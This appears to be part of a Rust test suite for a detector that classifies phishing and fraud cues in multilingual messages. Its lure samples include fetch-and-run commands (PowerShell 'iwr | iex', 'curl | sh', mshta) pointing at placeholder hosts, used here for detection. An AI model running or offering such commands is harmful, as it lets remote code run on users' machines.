                "Could you pay the two open invoices to our secondary account this week?",
                &[PaymentChange],
            ),
            (
                "Going forward, payments should go to our new account.",
                &[PaymentChange],
            ),
            (
                "Please settle the attached today (GBP 9,300) and I will send the paperwork later.",
                &[PaymentChange, Urgency],
            ),
            ("Please pay the invoice to the usual account.", &[]),
            // The writer's own shopping, priced in another clause.
            (
                "I need to buy a new router quick, and the shop down the road has them for EUR 80.",
                &[],
            ),
        ]);
    }

    #[test]
    fn lures_by_structure() {
        use RiskCategory::*;
        check(&[
            (
                "Your subscription renewed for $399.99. If you did not authorise this charge, call +1 888 555 0100.",
                &[CallbackBait],
            ),
            (
                "Votre abonnement a été renouvelé. Pour annuler, appelez le +1 888 555 0100.",
                &[CallbackBait],
            ),
            (
                "Congratulations, you have been selected to receive a gift card: claim it today.",
                &[RewardLure],
            ),
            (
                "Keep this strictly between us and don't tell anyone in finance.",
                &[Secrecy],
            ),
            (
                "We detected unusual sign-in activity on your account.",
                &[Scare],
            ),
        ]);
    }

    #[test]
    fn a_command_that_fetches_and_runs_a_program_is_an_install() {
        use RiskCategory::*;
        check(&[
            (
                "Open the Run box, put in this command and hit Enter:\n\npowershell -nop -c \"iwr https://tools.example.net/c.ps1 | iex\"",
                &[SoftwareInstall],
            ),
            (
                "Öffnen Sie ein Terminal: curl -fsSL https://get.example.net/agent | sh",
                &[SoftwareInstall],
            ),
            (
                "Run mshta https://cdn.example.net/update.hta now.",
                &[SoftwareInstall],
            ),
            // Shown, not asked: in quotation marks whole, said never to
            // be asked, or only fetching a file.
            (
                "A typical lure reads \"powershell -c iwr https://x.example.net/a | iex\" and must be reported.",
                &[],
            ),
            (
                "We will never ask you to run curl https://get.example.net/agent | sh on your laptop.",
                &[],
            ),
            (
                "The report is at curl https://data.example.org/q3.csv -o q3.csv for anyone curious.",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_verb_done_again_asks_as_the_verb() {
        use RiskCategory::*;
        check(&[
            (
                "Your mailbox link expired. Reconnect today by typing your password on the page below.",
                &[CredentialReset, Urgency],
            ),
            (
                "Reconnectez vos comptes en vous identifiant :\nhttps://portail.example.net/x",
                &[CredentialReset],
            ),
            (
                "Reautentíquense con sus credenciales en el portal: https://portal.example.net/x",
                &[CredentialReset],
            ),
            // The writer offering, not asking: "can I give you back ...".
            (
                "Est-ce que je peux vous redonner le badge d'accès lundi ?",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_loss_after_a_deadline_on_the_request_presses_it() {
        use RiskCategory::*;
        check(&[
            (
                "Please confirm your password on the portal. If it is not confirmed within 6 hours, your listings will be closed.",
                &[CredentialReset, Urgency],
            ),
            // No request made: a reminder of a rule.
            (
                "If the form is not returned within 6 hours, your booking will be cancelled.",
                &[],
            ),
        ]);
    }

    #[test]
    fn a_number_to_call_after_a_threat_or_with_a_secret_ready_is_bait() {
        use RiskCategory::*;
        check(&[
            (
                "Your mailbox will be deleted tonight. To keep it, talk to an agent on +1 888 555 0100.",
                &[CallbackBait, Urgency],
            ),
            (
                "Please phone our response desk urgently on +1 888 555 0100 and keep the VPN password at hand.",
                &[CallbackBait, Urgency],
            ),
        ]);
    }

    #[test]
    fn meanwhile_before_an_order_leaves_it_an_order() {
        use RiskCategory::*;
        check(&[(
            "Te llamo enseguida. Mientras tanto descarga el programa de soporte en tu portátil.",
            &[SoftwareInstall],
        )]);
    }

    #[test]
    fn an_install_pointed_below_takes_the_program_linked_there() {
        use RiskCategory::*;
        check(&[(
            "Merci de lancer l'assistant indiqué ci-dessous avant vendredi (dix minutes) :\n\nhttps://upgrade.example.net/poste/assistant.exe",
            &[SoftwareInstall, Urgency],
        )]);
    }

    #[test]
    fn whether_after_an_ask_to_the_reader_is_the_question_asked() {
        use RiskCategory::*;
        check(&[
            (
                "Can you tell me when you are free and whether you can run the export for the auditors?",
                &[DataExport],
            ),
            ("Let me know whether the export ran last night.", &[]),
        ]);
    }

    #[test]
    fn a_need_softened_by_please_is_still_whose_it_is() {
        use RiskCategory::*;
        check(&[(
            "Frau Okafor fängt am Montag an. Sie braucht bitte Schreibrechte auf das Laufwerk Einkauf.",
            &[AccessGrant],
        )]);
    }

    #[test]
    fn someone_named_by_role_or_after_an_article_needs_it() {
        use RiskCategory::*;
        check(&[
            (
                "Lucía, el técnico necesita la contraseña del router antes de las cinco.",
                &[CredentialReset, Urgency],
            ),
            (
                "Die Notarin braucht heute noch die Anzahlung von 20.000 EUR auf das Treuhandkonto.",
                &[PaymentChange, Urgency],
            ),
        ]);
    }

    #[test]
    fn pronouns_held_by_imperatives_in_spanish_and_french() {
        use RiskCategory::*;
        check(&[
            (
                "El usuario y la contraseña del servidor de copias: mándamelos por aquí.",
                &[CredentialReset],
            ),
            (
                "Tu vas recevoir un code par SMS, communique-le-moi dès réception.",
                &[CredentialReset, MfaReset],
            ),
        ]);
    }

    #[test]
    fn money_due_to_details_given_below_a_colon() {
        use RiskCategory::*;
        // Folded as message text is, its line breaks marked.
        let mut folded = Vec::new();
        let mut marks = Marks::default();
        crate::normalize::fold_into_marking(
            &mut folded,
            "From now on all open invoices must be paid to:\n\nSort code: 20-00-00\nAccount: 12345678",
            &mut marks,
        );
        let text = String::from_utf8(folded).unwrap();
        let rec = Recogniser::new(Lexicon::default_lexicon().unwrap());
        let found: Vec<RiskCategory> = rec
            .recognise(
                &text,
                std::slice::from_ref(&(0..text.len())),
                &marks,
                &[],
                0,
            )
            .found
            .into_iter()
            .map(|r| r.category)
            .collect();
        assert_eq!(found, vec![RiskCategory::PaymentChange]);
        // What is billed, paid after the modal, is money to move too.
        check(&[(
            "Voici notre facture 2026-77 de 1 200,00 EUR. Le paiement du solde doit être fait dans la semaine par le lien de règlement.",
            &[PaymentChange],
        )]);
    }

    #[test]
    fn a_code_read_out_on_the_call_the_message_arranges() {
        use RiskCategory::*;
        check(&[
            (
                "Call our line on +1 888 555 0100. The adviser will ask you to read out the code shown on your token.",
                &[CredentialReset, MfaReset],
            ),
            (
                "Questions? Call +1 888 555 0100. When you sign in, the authenticator app will ask you to type the number shown on screen.",
                &[],
            ),
        ]);
    }

    #[test]
    fn what_is_not_asked_for_though_it_looks_near() {
        use RiskCategory::*;
        check(&[
            // A rule for every change of bank details.
            (
                "Chez nous, un changement d'IBAN de prestataire est toujours contrôlé par un appel au contact connu.",
                &[],
            ),
            // The reader signing in connects to no one's machine.
            (
                "To see the statement, please log in the usual way, entering our site's name in your browser yourself.",
                &[],
            ),
            // Members of an association are no group membership.
            (
                "Für die Versammlung brauchen wir wieder den Saal, erwartet sind 140 Mitglieder.",
                &[],
            ),
            // People's records, bank details among them, go out as data.
            (
                "Please send me the list of all drivers with date of birth, home address and bank details.",
                &[DataExport],
            ),
            // The access named a sentence before is not to this phone.
            (
                "Sonst wird Ihr Zugang gesperrt. Halten Sie Ihre Zugangsdaten und Ihr Handy bereit.",
                &[CredentialReset, Urgency],
            ),
        ]);
    }
}
